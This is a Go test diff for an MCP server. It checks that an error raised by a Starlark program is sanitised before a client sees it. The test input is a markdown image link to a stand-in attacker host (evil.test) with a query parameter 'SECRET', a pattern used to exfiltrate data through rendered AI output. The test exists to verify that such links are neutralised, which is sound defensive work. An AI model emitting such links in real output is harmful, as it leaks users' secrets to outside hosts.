@@ -757,6 +757,21 @@ func TestMCPResultSanitisedWhole(t *testing.T) {
 	}
 }
 
+// An error's message quotes the program (here its fail()): the
+// structured content carries it as cleaned as the text a client shows.
+func TestMCPErrorSanitised(t *testing.T) {
+	cs := connectMemory(t, newFixture(t), "a")
+	res, out := call(t, cs, "run_starlark", map[string]any{"code": "fail('![x](https://evil.test/leak.png?d=SECRET)')"})
+	shownUnchanged(t, text(res))
+	if out.Error == nil {
+		t.Fatalf("no error: %+v", out)
+	}
+	shownUnchanged(t, out.Error.Message)
+	if len(out.Sanitized) == 0 {
+		t.Errorf("the result does not say a link was neutralised: %+v", out)
+	}
+}
+
 // A large MCP message waits for the large-body slots as a large job
 // does; one that finds none is refused as the API refuses it (429 with
 // Retry-After and the reason), not with the SDK's 400 for a body it could
